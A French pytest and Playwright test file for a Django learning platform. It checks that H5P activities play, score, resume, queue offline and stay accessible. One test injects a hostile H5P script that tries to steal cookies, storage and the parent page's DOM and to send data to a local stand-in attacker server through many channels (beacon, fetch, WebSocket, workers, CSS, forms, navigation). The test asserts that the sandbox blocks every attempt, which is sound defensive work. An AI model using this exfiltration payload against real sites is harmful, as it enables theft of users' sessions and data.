"""Une activité H5P dans un vrai navigateur : elle joue, note, reprend, attend le réseau, et ne sort pas de sa boîte."""

from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from django.core.signals import request_started
from playwright.sync_api import FrameLocator, Page, expect

from cours.models import ModuleActivite, ModulePage
from evaluations.h5p import inclusion
from evaluations.models import Declaration, EtatH5P, Tentative
from lms import suivi
from lms.models import Professionnel, ProgressionActivite
from tests.fabrique_h5p import installer_activite, installer_bibliotheque
from tests.lms.fabriques import module_page

from .conftest import RACINE, Surveillance, personne, se_connecter
from .test_pages import LARGEURS, controler, parcourir, valider_le_html

CAPTURES = RACINE / "captures"
ADRESSE = "/apprendre/A1/A1-H5P/"


@pytest.fixture(autouse=True)
def statiques_ouverts(monkeypatch: pytest.MonkeyPatch) -> None:
    """WhiteNoise sert les fichiers statiques à toute origine, et pour toujours ; le serveur des tests aussi."""
    from django.contrib.staticfiles.handlers import StaticFilesHandlerMixin

    servir = StaticFilesHandlerMixin.serve

    def ouvert(self: Any, request: Any) -> Any:
        reponse = servir(self, request)
        reponse["Access-Control-Allow-Origin"] = "*"
        reponse["Cache-Control"] = "max-age=31536000, public, immutable"
        return reponse

    monkeypatch.setattr(StaticFilesHandlerMixin, "serve", ouvert)


@pytest.fixture
def poser(portail_leger: ModulePage) -> Callable[..., Any]:
    """Installe une activité d'essai dans le module A1, et y inscrit la personne."""

    def _poser(profil: Professionnel, **champs: Any) -> Any:
        une = installer_activite(**champs)
        ModuleActivite.objects.create(module_page=portail_leger, activite_id=une.pk, sort_order=9)
        suivi.inscrire(professionnel=profil, module_page=portail_leger)
        return une

    return _poser


@pytest.fixture
def portail_leger(live_server: Any, transactional_db: None) -> ModulePage:
    """Le module A1 et rien d'autre : les activités H5P n'ont pas besoin du curriculum."""
    from lms.referentiel import installer_metiers
    from lms.roles import installer_roles

    installer_roles()
    installer_metiers()
    return module_page("A1")


@pytest.fixture
def nadia(portail_leger: ModulePage) -> Professionnel:
    return personne("Nadia")


@pytest.fixture
def ouvrir(ouvrir: Callable[..., Page]) -> Iterator[Callable[..., Page]]:
    """Une page qui se ferme envoie encore ce qu'elle garde : on la quitte, et on attend, avant de vider la base."""
    pages: list[Page] = []

    def _ouvrir(*arguments: Any, **options: Any) -> Page:
        pages.append(ouvrir(*arguments, **options))
        return pages[-1]

    yield _ouvrir
    for page in pages:
        page.goto("about:blank")
        page.wait_for_timeout(1000)


def commencer(page: Page) -> FrameLocator:
    """« Commencer », puis le cadre de l'activité, prêt."""
    page.goto(ADRESSE)
    bouton = page.locator("main button:has-text('Commencer')")
    if bouton.count():
        bouton.click()
    page.wait_for_selector("iframe.prete", state="attached")
    return page.frame_locator("#activite-h5p iframe")


def attendre(page: Page, condition: Callable[[], bool]) -> None:
    """Laisse la page vivre jusqu'à ce que la base dise ce qu'on attend."""
    for _ in range(60):
        if condition():
            return
        page.wait_for_timeout(250)
    raise AssertionError("la base ne le dit toujours pas")


def test_une_activite_se_joue_se_note_et_reprend_ou_elle_en_etait(
    ouvrir: Callable[..., Page], nadia: Professionnel, poser: Callable[..., Any]
) -> None:
    poser(nadia)
    page = ouvrir()
    se_connecter(page, nadia)
    cadre = commencer(page)
    expect(cadre.locator("img")).to_have_js_property("naturalWidth", 1)
    cadre.locator(".choix-faux").click()
    cadre.locator(".choix-juste").click()
    expect(page.locator("[data-score]")).to_contain_text("1 sur 1")
    assert ProgressionActivite.objects.get().genre_preuve == "client"
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    attendre(page, lambda: EtatH5P.objects.filter(data='{"choix":"juste"}').exists())
    page.reload()
    expect(page.frame_locator("#activite-h5p iframe").locator(".choisi")).to_have_text("Vous aviez choisi : juste")


def compter_une_visite(page: Page, geste: Callable[[], Any]) -> list[str]:
    """Ce que le serveur reçoit pour afficher une activité ; l'envoi des réponses n'en est pas."""
    recues: list[str] = []

    def noter(environ: dict[str, str], **_: Any) -> None:
        recues.append(environ["PATH_INFO"])

    request_started.connect(noter)
    geste()
    page.wait_for_selector("iframe.prete", state="attached")
    page.wait_for_timeout(1500)
    request_started.disconnect(noter)
    return [chemin for chemin in recues if not chemin.startswith("/api/")]


def test_une_visite_coute_cinq_requetes_au_plus(
    ouvrir: Callable[..., Page], nadia: Professionnel, poser: Callable[..., Any]
) -> None:
    poser(nadia)
    page = ouvrir()
    se_connecter(page, nadia)
    page.goto(ADRESSE)
    assert len(compter_une_visite(page, lambda: page.click("main button:has-text('Commencer')"))) <= 48
    page.goto("about:blank")
    seconde = compter_une_visite(page, lambda: page.goto(ADRESSE))
    assert seconde[0] == ADRESSE
    assert len(seconde) <= 5


def test_les_fichiers_viennent_d_un_second_hote_sans_session(
    ouvrir: Callable[..., Page],
    live_server: Any,
    settings: Any,
    surveillance: Surveillance,
    nadia: Professionnel,
    poser: Callable[..., Any],
) -> None:
    second = live_server.url.replace("localhost", "127.0.0.1")
    assert second != live_server.url
    settings.H5P_CONTENT_ORIGIN = second
    poser(nadia)
    page = ouvrir()
    se_connecter(page, nadia)
    cadre = commencer(page)
    expect(cadre.locator("img")).to_have_js_property("naturalWidth", 1)
    cadre.locator(".choix-juste").click()
    expect(page.locator("[data-score]")).to_contain_text("1 sur 1")
    ailleurs = [requete for requete in surveillance.requetes if requete.url.startswith(second)]
    assert any("/content/images/essai.png" in requete.url for requete in ailleurs)
    assert not [requete.url for requete in ailleurs if "cookie" in requete.all_headers()]
    assert not [faute for faute in surveillance.fautes if not faute.startswith(f"autre hôte : {second}/")]
    surveillance.fautes.clear()


@pytest.mark.parametrize(("theme", "largeur"), LARGEURS)
def test_l_ecran_est_accessible_valide_et_ne_deborde_pas(
    ouvrir: Callable[..., Page],
    nadia: Professionnel,
    poser: Callable[..., Any],
    tmp_path: Path,
    theme: Any,
    largeur: int,
) -> None:
    poser(nadia, alternative_textuelle="<p>Le même contenu, en texte.</p>")
    page = ouvrir(largeur, color_scheme=theme, bypass_csp=True)
    se_connecter(page, nadia)
    dossier = tmp_path / "pages"
    defauts = list(parcourir(page, [ADRESSE], dossier))
    page.set_viewport_size({"width": largeur, "height": 740})
    cadre = commencer(page)
    defauts += controler(page, ADRESSE, dossier)
    cadre.locator(".choix-juste").click()
    expect(page.locator("[data-fin]")).to_be_visible()
    page.set_viewport_size({"width": largeur, "height": 900})
    page.screenshot(path=CAPTURES / f"h5p-{largeur}.png", full_page=True)
    assert not defauts + valider_le_html(dossier)


def test_hors_ligne_les_reponses_attendent_puis_partent_avec_les_memes_identifiants(
    ouvrir: Callable[..., Page], surveillance: Surveillance, nadia: Professionnel, poser: Callable[..., Any]
) -> None:
    poser(nadia)
    page = ouvrir()
    se_connecter(page, nadia)
    cadre = commencer(page)
    page.wait_for_timeout(3000)
    page.context.set_offline(True)
    cadre.locator(".choix-juste").click()
    expect(page.locator("[data-etat=attente]")).to_be_visible()
    assert not Declaration.objects.filter(verb__iri__endswith="answered").exists()
    page.context.set_offline(False)
    expect(page.locator("[data-fin]")).to_be_visible()
    expect(page.locator("[data-etat=envoye]")).to_be_visible()
    assert Declaration.objects.filter(verb__iri__endswith="answered").count() == 1
    surveillance.fautes[:] = [f for f in surveillance.fautes if "ERR_INTERNET_DISCONNECTED" not in f]


ECRIRE = """
H5P.Essay = (function ($) {
  function Essai(params, contentId, extras) {
    H5P.EventDispatcher.call(this);
    this.texte = (extras || {}).previousState;
  }
  Essai.prototype = Object.create(H5P.EventDispatcher.prototype);
  Essai.prototype.constructor = Essai;
  Essai.prototype.attach = function ($boite) {
    var moi = this;
    this.$texte = $('<textarea aria-label="Récit">').val(this.texte || '').appendTo($boite);
    $('<button class="valider">Valider</button>').appendTo($boite).on('click', function () {
      var texte = moi.$texte.val();
      var fait = moi.createXAPIEventTemplate('answered');
      fait.setScoredResult(1, 2, moi, true, true);
      Object.assign(fait.data.statement.object.definition, {interactionType: 'long-fill-in', name: {fr: texte}});
      Object.assign(fait.data.statement.result, {response: texte, extensions: {'https://a.test/b': texte}});
      moi.trigger(fait);
    });
  };
  Essai.prototype.getCurrentState = function () { return this.$texte.val(); };
  return Essai;
})(H5P.jQuery);
"""


def test_un_texte_ecrit_librement_ne_quitte_pas_l_appareil(
    ouvrir: Callable[..., Page], nadia: Professionnel, poser: Callable[..., Any]
) -> None:
    poser(nadia, bibliotheque=installer_bibliotheque("H5P.Essay", js=ECRIRE))
    page = ouvrir()
    envoyes: list[str] = []
    page.on("request", lambda requete: envoyes.append(requete.post_data or ""))
    se_connecter(page, nadia)
    cadre = commencer(page)
    cadre.locator("textarea").fill("Un secret confié")
    cadre.locator(".valider").click()
    expect(page.locator("[data-score]")).to_contain_text("1 sur 2")
    page.wait_for_timeout(3000)
    assert any("answered" in corps for corps in envoyes)
    assert not [corps for corps in envoyes if "secret" in corps]
    assert not Declaration.objects.filter(payload__contains="secret").exists()
    assert not EtatH5P.objects.exists()
    page.reload()
    expect(page.frame_locator("#activite-h5p iframe").locator("textarea")).to_have_value("Un secret confié")


def test_session_expiree_la_file_attend_la_meme_personne_et_ignore_une_autre(
    ouvrir: Callable[..., Page], surveillance: Surveillance, nadia: Professionnel, poser: Callable[..., Any]
) -> None:
    poser(nadia)
    yann = personne("Yann")
    suivi.inscrire(professionnel=yann, module_page=ModulePage.objects.get(code="A1"))
    page = ouvrir()
    se_connecter(page, nadia)
    cadre = commencer(page)
    page.wait_for_timeout(3000)
    page.context.clear_cookies(name="sessionid")
    cadre.locator(".choix-juste").click()
    expect(page.locator("[data-message=connexion]")).to_be_visible()
    se_connecter(page, yann)
    commencer(page)
    page.wait_for_timeout(3000)
    assert not Declaration.objects.filter(verb__iri__endswith="answered").exists()
    page.context.clear_cookies(name="sessionid")
    se_connecter(page, nadia)
    commencer(page)
    expect(page.locator("[data-score]")).to_contain_text("1 sur 1")
    assert Declaration.objects.get(verb__iri__endswith="answered").actor.personne == nadia.user
    surveillance.fautes[:] = [f for f in surveillance.fautes if "401 (Unauthorized)" not in f]


def test_une_activite_sans_constructeur_montre_un_message(
    ouvrir: Callable[..., Page], nadia: Professionnel, poser: Callable[..., Any], surveillance: Surveillance
) -> None:
    poser(nadia, bibliotheque=installer_bibliotheque("H5P.TestVide", js="var rien = 1;"))
    page = ouvrir()
    se_connecter(page, nadia)
    page.goto(ADRESSE)
    page.click("main button:has-text('Commencer')")
    expect(page.locator("[data-echec]")).to_be_visible()
    expect(page.locator("[data-echec]")).to_contain_text("prévenez votre formateur")
    surveillance.fautes.clear()


class Ecouteur:
    """Un serveur d'attaquant, local : il note tout ce qu'il reçoit."""

    def __init__(self) -> None:
        recus: list[str] = []

        class Oreille(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recus.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_POST = do_PUT = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, *arguments: Any) -> None:
                """Rien dans le journal."""

        self.recus = recus
        self.serveur = ThreadingHTTPServer(("127.0.0.1", 0), Oreille)
        self.origine = f"http://127.0.0.1:{self.serveur.server_port}"
        Thread(target=self.serveur.serve_forever, daemon=True).start()


@pytest.fixture
def ecouteur() -> Iterator[Ecouteur]:
    un = Ecouteur()
    yield un
    un.serveur.shutdown()


HOSTILE_JS = """
H5P.TestHostile = (function () {
  function Hostile() { H5P.EventDispatcher.call(this); }
  Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
  Hostile.prototype.attach = function ($container) {
    var cible = '__CIBLE__', portail = '__PORTAIL__', butin = [];
    function essayer(nom, geste) {
      try { var valeur = geste(); if (valeur) { butin.push(nom + '=' + valeur); } } catch (erreur) { return; }
    }
    var natif = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
    essayer('cookie', function () { return natif.get.call(document); });
    essayer('stockage', function () { return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage'); });
    essayer('dom', function () { return window.parent.document.body.innerHTML; });
    essayer('indexeddb', function () { indexedDB.open('x'); return 'ouvert'; });
    essayer('top', function () { window.top.location.href = cible + '/top'; });
    essayer('fenetre', function () { return window.open(cible + '/fenetre'); });
    essayer('beacon', function () { navigator.sendBeacon(cible + '/beacon', 'x'); });
    essayer('image', function () { new Image().src = cible + '/image'; });
    essayer('script', function () {
      var s = document.createElement('script'); s.src = cible + '/script'; document.body.append(s);
    });
    essayer('integrite', function () {
      // Une empreinte de la politique, reprise dans integrity, laisserait partir ce script vers l'autre hôte.
      (__EMPREINTES__).forEach(function (empreinte, rang) {
        var s = document.createElement('script');
        s.crossOrigin = 'anonymous'; s.integrity = empreinte; s.src = cible + '/integrite' + rang;
        document.body.append(s);
      });
    });
    essayer('websocket', function () { new WebSocket(cible.replace('http', 'ws') + '/ws'); });
    essayer('eventsource', function () { new EventSource(cible + '/es'); });
    essayer('ouvrier', function () {
      new Worker(URL.createObjectURL(new Blob(['fetch("' + cible + '/ouvrier", {mode: "no-cors"})'])));
    });
    ['prefetch', 'preload', 'stylesheet', 'modulepreload', 'icon', 'manifest'].forEach(function (rel) {
      essayer(rel, function () {
        var l = document.createElement('link'); l.rel = rel; l.href = cible + '/' + rel; l.as = 'script';
        document.head.append(l);
      });
    });
    essayer('css', function () {
      var s = document.createElement('style');
      s.textContent = '@import "' + cible + '/import.css"; body { background: url(' + cible + '/fond) }';
      document.head.append(s);
    });
    essayer('cadre', function () {
      var c = document.createElement('iframe'); c.src = cible + '/cadre'; document.body.append(c);
    });
    essayer('telechargement', function () {
      var a = document.createElement('a'); a.href = cible + '/telecharger'; a.download = 'x'; document.body.append(a);
      HTMLAnchorElement.prototype.click.call(a);
    });
    essayer('media', function () { var v = new Audio(cible + '/son'); v.play().catch(function () {}); });
    essayer('poignee', function () { window.parent.postMessage({type: 'h5p:ready', v: 1}, '*'); });
    setTimeout(function () {
      for (var i = 0; i < 1000; i += 1) {
        PontH5P.envoyer('state', {dataType: 'rafale', subContentId: '0', data: String(i)});
      }
      PontH5P.envoyer('state', {dataType: 'gros', subContentId: '0', data: new Array(300000).join('x')});
    }, 600);
    essayer('formulaire', function () {
      var f = document.createElement('form'); f.action = cible + '/formulaire'; f.method = 'post';
      document.body.append(f); f.submit();
    });
    [cible + '/fetch', portail + '/api/h5p/__TENTATIVE__/statements', portail + '/mon-compte/',
     portail + '/h5p/c/00000000000000000000000000000000-0/content/images/essai.png'].forEach(function (adresse) {
      fetch(adresse, {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'}).catch(function () {});
      fetch(adresse, {credentials: 'include'}).then(function (r) { if (r.ok) { butin.push(adresse); } })
        .catch(function () {});
    });
    $container.append('<p class="butin">').find('.butin').text('essais faits');
    setTimeout(function () { $container.find('.butin').text('butin : ' + butin.join(' ; ')); }, 1500);
    // S'en aller efface le butin : le test le lit d'abord, puis laisse partir.
    $container.find('.butin').on('click', function () {
      var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + cible + '/refresh';
      document.head.append(m);
      setTimeout(function () { window.location.href = cible + '/navigation'; }, 1000);
    });
  };
  return Hostile;
})();
"""


def test_une_activite_hostile_ne_touche_a_rien(
    ouvrir: Callable[..., Page],
    live_server: Any,
    surveillance: Surveillance,
    nadia: Professionnel,
    poser: Callable[..., Any],
    ecouteur: Ecouteur,
) -> None:
    pont = inclusion.fixe("pont/pont-avant.js", live_server.url).empreinte.strip("'")
    js = HOSTILE_JS.replace("__CIBLE__", ecouteur.origine).replace("__PORTAIL__", live_server.url)
    js = js.replace("__EMPREINTES__", f"['{pont}']")
    poser(nadia, bibliotheque=installer_bibliotheque("H5P.TestHostile", js=js), params={})
    page = ouvrir()
    se_connecter(page, nadia)
    page.evaluate("localStorage.setItem('secret', 'du portail')")
    cadre = commencer(page)
    depuis = len(surveillance.requetes)
    expect(cadre.locator(".butin")).to_contain_text("butin :", timeout=30_000)
    butin = cadre.locator(".butin").inner_text()
    cadre.locator(".butin").click()
    page.wait_for_timeout(3000)
    assert butin.removeprefix("butin :").strip() in {"", "stockage=[object Object]"}
    assert ecouteur.recus == []
    assert "/apprendre/A1/" in page.url
    atteintes = [
        r for r in surveillance.requetes[depuis:] if r.frame != page.main_frame and r.url.startswith(live_server.url)
    ]
    assert not [r.url for r in atteintes if "/api/" in r.url or "/mon-compte/" in r.url]
    assert not Declaration.objects.exists()
    # Mille messages d'un coup, puis un de 300 Ko : la page n'en lit que sa réserve.
    attendre(page, lambda: EtatH5P.objects.filter(data_id="rafale").exists())
    assert int(EtatH5P.objects.get().data) < 300
    assert Tentative.objects.get().date_fin is None
    surveillance.fautes.clear()


def test_sans_javascript_la_page_dit_ce_qu_il_faut_et_n_a_pas_de_cadre_mort(
    ouvrir: Callable[..., Page], nadia: Professionnel, poser: Callable[..., Any]
) -> None:
    activite = poser(nadia, alternative_textuelle="<p>Le même contenu, en texte.</p>")
    page = ouvrir(java_script_enabled=False)
    se_connecter(page, nadia)
    page.goto(ADRESSE)
    page.click("main button:has-text('Commencer')")
    phrase = page.locator("#activite-h5p noscript p")
    expect(phrase).to_be_visible()
    expect(phrase).to_contain_text("ou lisez l'activité en texte")
    for mort in ("iframe", "[data-plein-ecran]", "[data-chargement]", "[data-echec]"):
        expect(page.locator(f"#activite-h5p {mort}")).to_be_hidden()
    page.locator("summary", has_text="Lire l'activité en texte").click()
    expect(page.get_by_text("Le même contenu, en texte.")).to_be_visible()
    activite.alternative_textuelle = ""
    activite.save()
    page.reload()
    expect(phrase).to_contain_text("demandez l'activité en texte à votre formateur")


@pytest.mark.parametrize("largeur", [360, 1280])
def test_plein_ecran_et_lien_d_evitement(
    ouvrir: Callable[..., Page], nadia: Professionnel, poser: Callable[..., Any], largeur: int
) -> None:
    poser(nadia)
    page = ouvrir(largeur)
    se_connecter(page, nadia)
    cadre = commencer(page)
    page.locator("[data-plein-ecran]").click()
    page.wait_for_function("document.fullscreenElement?.matches('#activite-h5p iframe')")
    cadre.locator(".choix-juste").click()
    expect(cadre.locator(".choisi")).to_have_text("Vous avez choisi : juste")
    page.evaluate("document.exitFullscreen()")
    page.locator("#activite-h5p .evitement").focus()
    expect(page.locator("#activite-h5p .evitement")).to_be_in_viewport()
    page.keyboard.press("Enter")
    expect(page.locator("#apres-activite")).to_be_focused()
